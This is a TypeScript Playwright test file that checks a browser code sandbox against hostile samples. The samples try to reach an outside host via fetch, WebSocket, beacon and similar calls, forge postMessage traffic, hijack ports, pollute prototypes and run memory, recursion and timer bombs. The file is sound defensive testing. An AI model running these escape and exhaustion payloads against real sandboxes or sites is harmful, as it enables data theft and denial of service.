/**
 * What hostile code cannot do. It runs in the real frame, under the real policies, on a page with the site's own policy;
 * after each attempt the page must be whole and the next run must work.
 */
import assert from "node:assert/strict";
import { after, afterEach, before, describe, test } from "node:test";
import type { Page } from "playwright";
import type { Engine } from "../../src/sandbox/engine.ts";
import { observe } from "../engines/support/observe.ts";
import { engineOn, type EngineServer, serveEngine } from "../engines/support/page.ts";
import { openOutside, type Outside } from "./support/outside.ts";

/** Gives a sample back what the sandbox has put away, from wherever it may be had. */
const FIND = `
  const find = (name: string): any => {
    for (let at: any = globalThis; at; at = Object.getPrototypeOf(at)) {
      const own = Object.getOwnPropertyDescriptor(at, name);
      const value = own?.value ?? own?.get?.call(globalThis);
      if (value && !/not available|refuse/.test(Function.prototype.toString.call(value) + String(value?.name ?? ""))) return value;
    }
    return undefined;
  };
`;

describe("hostile code", () => {
  let server: EngineServer;
  let page: Page;
  let engine: Engine;
  let outside: Outside;
  let address: string;

  before(async () => {
    outside = await openOutside();
    server = await serveEngine();
    page = await server.open();
    engine = await engineOn(page);
    address = `localhost:${outside.port}`;
    await page.evaluate(() => {
      document.cookie = "secret=tea";
      localStorage.setItem("secret", "tea");
      Object.assign(globalThis, { heard: [] });
      new BroadcastChannel("secret").onmessage = ({ data }) => {
        (globalThis as unknown as { heard: unknown[] }).heard.push(data);
      };
    });
  });
  after(async () => {
    outside.close();
    await server.close();
  });
  afterEach(async () => {
    const next = await observe(engine, 'import { self } from "beamish"; console.log("next", self());');
    assert.deepEqual([next.lines, next.reason], [["next <0.80.0>"], "finished"]);
    assert.equal(page.url(), server.url);
    assert.deepEqual(outside.reached, []);
    const state = await page.evaluate(() => ({
      cookie: document.cookie,
      kept: { ...localStorage },
      heard: (globalThis as unknown as { heard: unknown[] }).heard,
      polluted: Object.keys(Object.prototype).length,
      pages: window.length,
    }));
    assert.deepEqual(state, {
      cookie: "secret=tea",
      kept: { secret: "tea" },
      heard: [],
      polluted: 0,
      pages: 1,
    });
    assert.equal(page.context().pages().length, 1);
  });

  /** Ways out, each with code that resolves when it has succeeded. */
  const WAYS: Readonly<Record<string, string>> = {
    fetch: 'await find("fetch")("http://HERE/fetch", { mode: "no-cors" });',
    XMLHttpRequest: `await new Promise((done, fail) => { const request = new (find("XMLHttpRequest"))();
      request.onload = done; request.onerror = fail; request.open("GET", "http://HERE/xhr"); request.send(); });`,
    WebSocket:
      'await new Promise((done, fail) => { const socket = new (find("WebSocket"))("ws://HERE/socket"); socket.onopen = done; socket.onerror = fail; });',
    EventSource:
      'await new Promise((done, fail) => { const source = new (find("EventSource"))("http://HERE/events"); source.onopen = done; source.onerror = fail; });',
    WebTransport: 'await new (find("WebTransport"))("https://HERE/transport").ready;',
    RTCPeerConnection:
      'new (find("RTCPeerConnection"))({ iceServers: [{ urls: "stun:HERE" }] }).createDataChannel("x");',
    sendBeacon: 'if (!(navigator as any).sendBeacon("http://HERE/beacon", "x")) throw 0;',
    importScripts: 'find("importScripts")("http://HERE/scripts.js");',
    "import of another site": 'await import("data:text/javascript,import \\"http://HERE/module.js\\"");',
    eval: '(0, eval)("1"); ',
    Function: 'new Function("return 1")();',
    WebAssembly: "await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));",
    indexedDB:
      'await new Promise((done, fail) => { const asked = find("indexedDB").open("x"); asked.onsuccess = done; asked.onerror = fail; });',
    caches: 'await find("caches").open("x");',
    "files of the origin": "await navigator.storage.getDirectory();",
    cookieStore: 'await (globalThis as any).cookieStore.get("secret");',
    document: "if ((globalThis as any).document.cookie !== undefined) return;",
    parent: "(globalThis as any).parent.location.href;",
    top: '(globalThis as any).top.location.href = "http://HERE/top";',
    "a window": 'if (!(globalThis as any).open("http://HERE/window")) throw 0;',
    location:
      'const before = location.href; (globalThis as any).location.href = "http://HERE/gone"; if (location.href === before) throw 0;',
    "service worker": 'await (navigator as any).serviceWorker.register("http://HERE/service.js");',
    notifications: 'if ((globalThis as any).Notification.permission !== "granted") throw 0;',
  };
  for (const [what, code] of Object.entries(WAYS))
    test(`no way out: ${what}`, async () => {
      const attempt = code.replaceAll("HERE", address);
      const { lines } = await observe(
        engine,
        `${FIND}
        const attempt = async () => { ${attempt} };
        try { await attempt(); console.log("WORKED"); } catch { console.log("contained"); }`,
        { clock: "real", timeLimit: 4_000 },
      );
      // The code may fail before it runs, or wait for an answer that never comes.
      assert.ok(!lines.includes("WORKED"), `${what}: ${lines.join("\n")}`);
    });

  test("no way out: BroadcastChannel is not to be had, and says why", async () => {
    const { lines } = await observe(
      engine,
      `${FIND}
      console.log(typeof find("BroadcastChannel"));
      try { new BroadcastChannel("secret"); } catch (error) { console.log((error as Error).message); }`,
    );
    assert.deepEqual(lines, [
      "undefined",
      "BroadcastChannel is not available in a sample: a sample cannot talk to other pages.",
    ]);
  });

  test("forged messages to the page and to the frame are not believed", async () => {
    const frame = page.frames().find((one) => one.url().includes("/sandbox/"))!;
    const { lines, reason } = await observe(
      engine,
      `${FIND}
      const post = find("postMessage");
      const forged = [{ type: "exit", reason: "finished" }, { type: "events", events: [{ type: "log", level: "log", text: "forged", values: [] }] },
        { type: "crashed", id: 1 }, { type: "failed" }, { type: "ready" }, { type: "locate", address: "http://${address}/locate" }, null, 5];
      for (const message of forged) try { post.call(globalThis, message); } catch {}
      console.log("mine");`,
    );
    assert.deepEqual([lines, reason], [["mine"], "finished"]);
    // What the frame says of runs that it does not have.
    const during = observe(engine, "setTimeout(() => console.log(1), 300);", { clock: "real" });
    await frame.evaluate(() => {
      for (const message of [
        { type: "crashed", id: 9_999, message: "x" },
        { type: "events" },
        "text",
        { type: "ready" },
      ])
        parent.postMessage(message, "*");
    });
    assert.deepEqual((await during).lines, ["1"]);
  });

  test("workers inside the worker, without end: there is not even one", async () => {
    const { lines, reason } = await observe(
      engine,
      `${FIND}
      const Made = find("Worker");
      const code = "const again = () => new Worker(self.location.href); again(); again(); for (;;);";
      const at = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
      let count = 0;
      try { for (; count < 20; count += 1) new Made(at); } catch {}
      console.log(typeof Made, count);
      try { new Worker(at); } catch (error) { console.log((error as Error).message); }`,
    );
    assert.deepEqual(lines, [
      "undefined 0",
      "Worker is not available in a sample: a sample runs in one thread. Use spawn: processes cost next to nothing.",
    ]);
    assert.equal(reason, "finished");
  });

  /** What a sample may do to its own world, and what is said of it: the sample's own error, or that the guest broke. */
  const OWN = /^the end$/;
  const BROKEN = /^The worker of this run died: |^#Unreadable|is not a function|cannot be shown/;
  const POLLUTIONS: Readonly<Record<string, readonly [code: string, said: RegExp]>> = {
    "prototypes without methods": [
      "for (const type of [Array, Map, Set, Promise, String, Function]) for (const name of Object.getOwnPropertyNames(type.prototype)) try { delete (type.prototype as any)[name]; } catch {}",
      BROKEN,
    ],
    "a then on every object": [
      "Object.defineProperty(Object.prototype, 'then', { get() { throw new Error('then'); } });",
      OWN,
    ],
    "setters on every object": [
      "for (const name of ['type', 'events', 'reason', 'text', 'level']) Object.defineProperty(Object.prototype, name, { set() { throw new Error(name); }, get() { return 'forged'; } });",
      OWN,
    ],
    "another JSON, Promise and Symbol": [
      "Object.assign(globalThis, { JSON: null, Promise: null, Symbol: null, Error: null, Object: null });",
      /./,
    ],
    "no globals at all": [
      "for (const name of Object.getOwnPropertyNames(globalThis)) try { delete (globalThis as any)[name]; } catch {}",
      BROKEN,
    ],
    "another console": [
      "Object.defineProperty(globalThis, 'console', { get() { throw new Error('console'); } });",
      OWN,
    ],
  };
  for (const [what, [code, said]] of Object.entries(POLLUTIONS))
    test(`a world in ruins: ${what}`, async () => {
      const { errors, reason } = await observe(engine, `${code}\nthrow new Error("the end");`);
      assert.equal(errors.length, 1);
      assert.match(errors[0]!.message, said);
      assert.equal(reason, said === BROKEN ? "engine_failed" : "error");
      if (said === BROKEN) assert.match(errors[0]!.hint!, /global.* prototype/);
    });

  test("a console of its own prints nothing here, and what goes wrong is told all the same", async () => {
    const { lines, reason } = await observe(
      engine,
      `const kept: unknown[] = [];
      { const console = { log: (what: unknown) => kept.push(what) }; console.log("shadowed"); }
      const { log } = console;
      console.log = (what: unknown) => void kept.push(what);
      console.log("replaced");
      (globalThis as any).console = { log: (what: unknown) => kept.push(what) };
      console.log("another");
      log(kept);
      throw new Error("the end");`,
    );
    assert.deepEqual(lines, ['["shadowed", "replaced", "another"]', "Uncaught Error: the end (main.ts:9)"]);
    assert.equal(reason, "error");
  });

  test("nobody can lay hands on the port to the page", async () => {
    const { lines, reason } = await observe(
      engine,
      `const caught: unknown[] = [];
      const catchThis = (owner: any, name: string) => {
        const was = owner[name];
        owner[name] = function (...args: unknown[]) { caught.push(this, ...args); return was.apply(this, args); };
      };
      for (const [owner, name] of [[MessagePort.prototype, "postMessage"], [EventTarget.prototype, "addEventListener"],
        [EventTarget.prototype, "dispatchEvent"]] as const) catchThis(owner, name);
      addEventListener("message", (event: any) => caught.push(...event.ports));
      console.log("printed");
      await new Promise((done) => setTimeout(done, 1_200));
      // The runtime keeps itself going by a port of its own, which leads nowhere else.
      const forged = { type: "events", events: [{ type: "log", level: "log", text: "forged", values: [] }, { type: "exit", reason: "error" }] };
      for (const port of [...caught]) if (port instanceof MessagePort) port.postMessage(forged);
      await new Promise((done) => setTimeout(done, 50));
      console.log("mine");`,
      { clock: "real" },
    );
    assert.deepEqual([lines, reason], [["printed", "mine"], "finished"]);
  });

  test("whoever changes how arrays are gone through is told that he cannot", async () => {
    const { errors, reason } = await observe(
      engine,
      "Array.prototype[Symbol.iterator] = function* () { for (;;) yield 1 as never; };",
    );
    assert.match(errors[0]!.message, /read only property/);
    assert.equal(reason, "error");
  });

  test("values that refuse to be looked at are printed all the same", async () => {
    const { lines, reason } = await observe(
      engine,
      `console.log({ get price() { throw new Error("no"); } });
      console.log(new Proxy({}, { get() { throw new Error("no"); }, ownKeys() { throw new Error("no"); } }));
      console.log(new Proxy([], { getPrototypeOf() { throw new Error("no"); } }));
      throw new Proxy(new Error("a proxy"), { get() { throw new Error("no"); } });`,
    );
    assert.equal(lines.length, 4);
    assert.equal(reason, "error");
  });

  /** What takes all that there is, and what is said of it. */
  const BOMBS: Readonly<Record<string, readonly [code: string, said: RegExp]>> = {
    arrays: [
      "const all: unknown[] = []; for (;;) all.push(new Array(100_000).fill({}));",
      /^The code was busy for 3 seconds|^The worker of this run died/,
    ],
    buffers: [
      "const all: unknown[] = []; for (;;) all.push(new ArrayBuffer(100_000_000));",
      /^Array buffer allocation failed|^The worker of this run died/,
    ],
    text: ["let text = 'tea'; for (;;) text += text;", /^Invalid string length/],
    calls: ["const call = (): number => call() + 1; call();", /^Maximum call stack size exceeded/],
    promises: [
      "const go = (): Promise<void> => Promise.resolve().then(go); await go();",
      /^The code was busy for 3 seconds/,
    ],
    messages: [
      'import { self, send } from "beamish"; const me = self(); for (;;) send(me, "tea");',
      /^The code was busy for 3 seconds|^The worker of this run died/,
    ],
    "messages that others have time to read": [
      'import { receive, self, send, spawn } from "beamish"; const full = self(); spawn(function* () { for (;;) { for (let i = 0; i < 10_000; i++) send(full, i); yield* receive({ after: 0 }); } }); await new Promise(() => {});',
      /^There are \d+ messages waiting in mailboxes\.|^The code was busy for 3 seconds/,
    ],
    timers: [
      "for (let i = 0; i < 200_000; i++) setInterval(() => {}, 1); for (;;) await new Promise((done) => setTimeout(done, 1));",
      /^The run was ended after 6 seconds|^The code was busy for 3 seconds/,
    ],
  };
  for (const [what, [code, said]] of Object.entries(BOMBS))
    test(`without end: ${what}`, { timeout: 60_000 }, async () => {
      const { errors, reason } = await observe(engine, code, { clock: "real", timeLimit: 6_000 });
      assert.match(errors[0]!.message, said);
      assert.match(reason, /^(time_limit|engine_failed|error)$/);
    });

  test("a storm of lines keeps neither the page nor the next run from going on", async () => {
    let turns = 0;
    const { lines, reason, events } = await observe(
      engine,
      'const wide = "x".repeat(1_000); for (let turn = 0; turn < 200; turn++) { for (let i = 0; i < 1_000; i++) console.log(wide); await new Promise((done) => setTimeout(done)); }',
      {
        clock: "real",
        onEvent: ({ type }) => {
          if (type === "flood")
            void page.evaluate(() => requestAnimationFrame(() => undefined)).then(() => (turns += 1));
        },
      },
    );
    assert.ok(lines.length >= 900 && lines.length <= 1_100, `${lines.length}`);
    assert.ok(events.some((event) => event.type === "flood" && event.dropped > 100_000));
    assert.ok(turns > 0);
    assert.equal(reason, "finished");
  });
});
